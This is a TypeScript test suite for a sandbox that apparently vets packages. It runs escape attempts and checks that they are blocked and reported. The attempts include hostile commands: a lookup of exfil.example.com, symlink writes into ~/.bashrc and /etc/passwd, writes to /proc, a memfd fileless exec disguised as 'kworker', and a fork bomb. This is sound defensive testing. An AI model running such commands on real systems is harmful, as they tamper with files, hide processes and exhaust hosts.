import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createSocket } from 'node:dgram';
import { mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { createServer } from 'node:net';
import type { AddressInfo, Server } from 'node:net';
import { homedir, tmpdir } from 'node:os';
import path from 'node:path';
import { processesWith, startTestSandbox } from '../fixtures/behaviour/sandbox-helpers';
import type { SandboxOutcome, TestSandbox } from '../fixtures/behaviour/sandbox-helpers';
import type { FileEvent, NetEvent } from '../../src/sandbox';

/**
 * Code inside the sandbox tries to get out; each test checks that the host saw nothing (a
 * listener got no connection, a file is unchanged) and that the trace reports the attempt.
 */
const node = (code: string) => [process.execPath, '-e', code];
const nets = (o: SandboxOutcome) => o.trace.events.filter((e): e is NetEvent => e.kind === 'net');
const files = (o: SandboxOutcome) =>
  o.trace.events.filter((e): e is FileEvent => e.kind === 'file' && e.write);

describe('sandbox escapes', () => {
  let box: TestSandbox;
  let hostDir: string;
  let listener: Server;
  let port: number;
  let accepted = 0;

  before(async () => {
    box = await startTestSandbox();
    hostDir = await mkdtemp(path.join(tmpdir(), 'vetted-escape-host-'));
    listener = createServer((socket) => {
      accepted++;
      socket.destroy();
    });
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    port = (listener.address() as AddressInfo).port;
  });
  after(async () => {
    listener.close();
    await box.dispose();
    await rm(hostDir, { recursive: true, force: true });
  });

  describe('when it opens sockets', () => {
    it('cannot reach a port the host listens on at 127.0.0.1', async () => {
      const out = await box.run(
        node(
          `require('net').connect(${port}, '127.0.0.1').on('error', (e) => console.log(e.code))`,
        ),
      );
      assert.equal(out.result.stdout.trim(), 'ECONNREFUSED');
      assert.equal(accepted, 0);
      const attempt = nets(out).find((e) => e.op === 'connect' && e.port === port);
      assert.equal(attempt?.address, '127.0.0.1');
      assert.deepEqual(out.codes, ['LOAD_NETWORK']);
    });
    it('cannot reach an external address', async () => {
      const out = await box.run(
        node(`require('net').connect(443, '1.1.1.1').on('error', (e) => console.log(e.code))`),
      );
      assert.equal(out.result.stdout.trim(), 'ENETUNREACH');
      const attempt = nets(out).find((e) => e.op === 'connect' && e.address === '1.1.1.1');
      assert.equal(attempt?.errno, 'ENETUNREACH');
      assert.deepEqual(out.codes, ['LOAD_NETWORK']);
    });
    it('cannot send DNS over UDP, to the world or to the host', async () => {
      const received: Buffer[] = [];
      const udp = createSocket('udp4');
      udp.on('message', (m) => received.push(m));
      await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
      const udpPort = udp.address().port;
      try {
        const out = await box.run(
          node(`
            const dns = require('dns');
            const u = require('dgram').createSocket('udp4');
            u.send('x', 53, '8.8.8.8', () => u.send('y', ${udpPort}, '127.0.0.1', () => u.close()));
            dns.lookup('exfil.example.com', (e) => console.log(e && e.code));`),
        );
        await new Promise((r) => setTimeout(r, 200));
        assert.deepEqual(received, []);
        const sends = nets(out).filter((e) => e.op === 'send');
        assert.ok(sends.some((e) => e.address === '8.8.8.8' && e.port === 53));
        assert.ok(sends.some((e) => e.address === '127.0.0.1' && e.port === udpPort));
        assert.ok(sends.some((e) => e.dns?.includes('exfil.example.com')));
        const finding = out.judged.findings.find((f) => f.code === 'LOAD_NETWORK');
        assert.match(finding?.message ?? '', /looked up exfil\.example\.com/);
      } finally {
        udp.close();
      }
    });
  });

  describe('when it writes where it should not', () => {
    it('cannot write through a symlink out of the package directory', async () => {
      const victim = path.join(hostDir, 'victim.txt');
      await writeFile(victim, 'original');
      const out = await box.run([
        '/bin/sh',
        '-c',
        `ln -s ${victim} link-host; echo pwned > link-host; ln -s ~/.bashrc link-home; echo pwned >> link-home`,
      ]);
      assert.equal(await readFile(victim, 'utf8'), 'original');
      const targets = files(out).map((e) => e.realPath ?? e.path);
      assert.ok(targets.includes(victim), targets.join('\n'));
      assert.ok(targets.includes('/home/dev/.bashrc'), targets.join('\n'));
      const write = out.judged.findings.find(
        (f) => f.code === 'WRITE_OUTSIDE_PACKAGE' && f.severity === 'critical',
      );
      assert.match(write?.message ?? '', /\/home\/dev\/\.bashrc/);
    });
    it('cannot write to the read-only system or to read-only binds', async () => {
      const passwd = path.join(box.ws.dir, 'etc', 'passwd');
      const before = await readFile(passwd, 'utf8');
      const out = await box.run([
        '/bin/sh',
        '-c',
        'for f in /etc/passwd /usr/bin/node /opt/vetted/x /newfile; do echo x > $f || echo "refused $f"; done',
      ]);
      assert.equal(out.result.stdout.match(/refused/g)?.length, 4, out.result.stdout);
      assert.equal(await readFile(passwd, 'utf8'), before);
      const attempts = files(out)
        .filter((e) => e.errno === 'EROFS')
        .map((e) => e.path);
      assert.deepEqual(attempts, ['/etc/passwd', '/usr/bin/node', '/opt/vetted/x', '/newfile']);
      assert.ok(out.codes.includes('WRITE_OUTSIDE_PACKAGE'));
    });
    it('cannot reach the host through /proc', async () => {
      const out = await box.run([
        '/bin/sh',
        '-c',
        [
          'echo x > /proc/1/root/etc/hosts || echo refused-root',
          'echo x > /proc/sys/kernel/hostname || echo refused-sysctl',
          'echo x > /proc/1/mem || echo refused-mem',
          `cat /proc/${process.pid}/cmdline >/dev/null 2>&1 && echo saw-host || echo no-host`,
          'ls /proc | grep -c "^[0-9]"',
        ].join('; '),
      ]);
      const lines = out.result.stdout.trim().split('\n');
      assert.deepEqual(lines.slice(0, 4), [
        'refused-root',
        'refused-sysctl',
        'refused-mem',
        process.pid < 10 ? lines[3] : 'no-host',
      ]);
      assert.ok(Number(lines[4]) < 10, `${lines[4]} processes visible`);
      const paths = files(out).map((e) => e.path);
      assert.ok(paths.includes('/proc/1/root/etc/hosts'));
      assert.ok(paths.includes('/proc/1/mem'));
      assert.ok(out.codes.includes('WRITE_OUTSIDE_PACKAGE'));
    });
    it("cannot write to HOME's real path on the host", async () => {
      const canary = path.join(homedir(), `vetted-escape-canary-${process.pid}`);
      const hostHome = path.join(box.ws.host.home, 'escaped');
      const out = await box.run([
        '/bin/sh',
        '-c',
        `echo x > ${canary} || echo refused; echo x > ${hostHome} || echo refused`,
      ]);
      assert.equal(out.result.stdout, 'refused\nrefused\n');
      await assert.rejects(stat(canary), { code: 'ENOENT' });
      await assert.rejects(stat(hostHome), { code: 'ENOENT' });
      const paths = files(out).map((e) => e.path);
      assert.ok(paths.includes(canary) && paths.includes(hostHome), paths.join('\n'));
    });
  });

  describe('when it hides what it runs', () => {
    it('cannot run a program from memory unseen', async () => {
      const py = [
        'import os',
        'fd = os.memfd_create("x")',
        'os.write(fd, open("/usr/bin/true", "rb").read())',
        'os.execve(fd, ["kworker"], {})',
      ].join('\n');
      const out = await box.run(['/usr/bin/python3', '-c', py]);
      const spawn = out.judged.findings.find((f) => f.code === 'PROCESS_SPAWN');
      assert.equal(spawn?.severity, 'critical');
      assert.match(spawn?.message ?? '', /ran \/memfd:x/);
    });
  });

  describe('when it exhausts resources', () => {
    it('bounds a fork bomb by the process limit, and leaves nothing running', async () => {
      const marker = `vetted-bomb-${process.pid}`;
      const out = await box.run(['/bin/sh', '-c', 'b() { b | b & }; b; sleep 2', marker], {
        limits: { processes: 64, timeMs: 4000 },
      });
      assert.deepEqual(await processesWith(marker), []);
      const refused = out.trace.events.filter((e) => e.kind === 'clone' && e.errno === 'EAGAIN');
      assert.ok(refused.length > 0, 'no refused clone in the trace');
      const limit = out.judged.findings.find((f) => f.code === 'RESOURCE_LIMIT');
      assert.match(limit?.message ?? '', /process creations refused/);
    });
    it('bounds a memory hog by the memory limit', async () => {
      const out = await box.run(node('const a = []; for (;;) a.push(Buffer.alloc(1 << 20, 1));'), {
        limits: { memoryBytes: 512 * 1024 ** 2, timeMs: 20_000 },
      });
      assert.notEqual(out.result.killed, 'time');
      assert.match(out.result.stderr, /out of memory/i);
      assert.ok(out.codes.includes('RESOURCE_LIMIT'), out.codes.join());
    });
    it('bounds an infinite loop by the CPU limit', async () => {
      const out = await box.run(node('for (;;) {}'), { limits: { cpuSeconds: 1, timeMs: 10_000 } });
      assert.equal(out.result.killed, undefined);
      assert.ok(out.result.durationMs < 5000, `${out.result.durationMs} ms`);
      const xcpu = out.trace.events.find((e) => e.kind === 'exit' && e.signal === 'SIGXCPU');
      assert.ok(xcpu, 'no SIGXCPU in the trace');
      assert.ok(out.codes.includes('RUNAWAY_CPU'));
    });
    it('bounds an infinite loop by the wall time, and says it was busy', async () => {
      const out = await box.run(node('for (;;) {}'), { limits: { timeMs: 1500 } });
      assert.equal(out.result.killed, 'time');
      const { cpuMs, durationMs } = out.result;
      assert.deepEqual(out.codes, ['LOAD_TIMEOUT', 'RUNAWAY_CPU'], `${cpuMs} of ${durationMs} ms`);
    });
  });
});
